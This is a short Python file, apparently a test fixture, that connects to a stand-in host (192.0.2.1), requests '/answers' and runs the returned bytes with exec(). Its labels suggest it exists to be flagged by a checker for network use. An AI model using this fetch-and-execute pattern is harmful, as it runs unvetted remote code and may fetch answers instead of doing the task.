"""Asks somebody else, over the network."""
# named: imports socket

import socket

line = socket.create_connection(("192.0.2.1", 80), timeout=2)
line.sendall(b"GET /answers HTTP/1.0\r\n\r\n")
exec(line.recv(100_000))
